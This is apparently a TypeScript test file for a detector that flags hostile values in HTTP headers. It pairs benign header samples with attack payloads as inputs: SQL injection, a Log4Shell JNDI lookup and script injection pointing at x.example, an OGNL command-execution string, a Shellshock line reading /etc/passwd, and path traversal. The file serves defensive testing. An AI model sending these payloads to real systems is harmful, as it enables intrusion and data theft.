import { describe, expect, it } from 'vitest';

import { otherHeaders } from './stray-headers.js';
import { StrayValues } from './stray-values.js';

const base64 = (text: string): string => Buffer.from(text).toString('base64url');

function told(...headers: readonly (readonly [name: string, value: string])[]): string[] {
  const stray = new StrayValues((text) => text);
  const found = stray.of({ agent: '', referer: '', target: '/', others: otherHeaders(headers), parameters: [] });
  return found.map(({ where, name }) => `${where} ${name}`);
}

describe('headers beside agent and referer', () => {
  it.each([
    ['X-Forwarded-For', "203.0.113.7' union select name,pin from staff-- -"],
    ['X-Api-Version', '${jndi:ldap://x.example/a}'],
    ['Host', 'app.example<script src=//x.example></script>'],
    ['Content-Type', "%{(#a='multipart/form-data').(#b=new java.lang.ProcessBuilder('id'))}"],
    ['Accept-Language', '() { :; }; /bin/cat /etc/passwd'],
    ['X-Rewrite-URL', '../../../../etc/passwd'],
    ['X-State', 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'],
    ['Authorization', `Basic ${base64("ann' or 1=1-- -:x")}`],
    ['Authorization', `Bearer ${base64(`{"alg":"HS256","kid":"x' union select 'k"}`)}.${base64('{"sub":"7"}')}.c2ln`],
  ] as const)('are told where they act: %s: %s', (name, value) => {
    expect(told([name, value])).toContain(`header ${name.toLowerCase()}`);
  });

  it.each([
    ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8,application/signed-exchange;v=b3'],
    ['Sec-CH-UA', '";Not A Brand";v="99", "Chromium";v="140", "Not=A?Brand";v="24"'],
    ['If-None-Match', 'W/"5e-18f0c", "abc--gzip"'],
    ['Forwarded', 'for="[2001:db8:cafe::17]:4711";proto=http;by=203.0.113.43'],
    ['X-Forwarded-Host', 'localhost:8080'],
    ['X-Wap-Profile', 'http://intranet/agents/7.xml'],
    ['Tracestate', 'rojo=00f067aa0ba902b7,congo=t61rcWkgMzE;dd=s:2;o:rum;t.dm:-4'],
    ['Authorization', `Basic ${base64(`o'brien@example.org:p'a"s;s&w0rd#|!--`)}`],
    ['Authorization', `Bearer ${base64('{"alg":"HS256"}')}.${base64(`{"name":"John O'Brien"}`)}.c2ln`],
    ['Authorization', 'Digest username="Mufasa", realm="a@b", uri="/dir/index.html", nonce="7ypf/xlj9XXwfDPE", nc=1'],
    ['Content-Type', 'multipart/form-data; boundary="---=_Part(3)\'x"'],
    ['Next-Router-State-Tree', '%5B%22%22%2C%7B%22children%22%3A%5B%22(app)%22%2C%7B%7D%5D%7D%2Cnull%5D'],
    ['HX-Current-URL', "https://app.example/search?q=it's+a+test&page=2"],
    ['If', '(<urn:uuid:181d4fae-7d8c-11d0-a765-00a0c91e6bf2> ["I am an ETag"])'],
    ['Cookie', "theme=' or 1=1-- -"],
    ['User-Agent', "' or 1=1-- -"],
  ] as const)('are left alone: %s: %s', (name, value) => {
    expect(told([name, value])).toEqual([]);
  });

  it('are told where an agent is sent twice', () => {
    expect(told(['User-Agent', 'curl/8.5'], ['user-agent', "' or 1=1-- -"])).toEqual(['header user-agent']);
  });

  it('hide nothing behind others that say less', () => {
    const less = ['A', 'B', 'C', 'D', 'E'].map((name) => [`X-${name}`, 'see <a href="/x">this</a>'] as const);
    expect(told(...less)).toHaveLength(4);
    expect(told(...less, ['X-F', "' union select 1,2-- -"])).toContain('header x-f');
  });
});
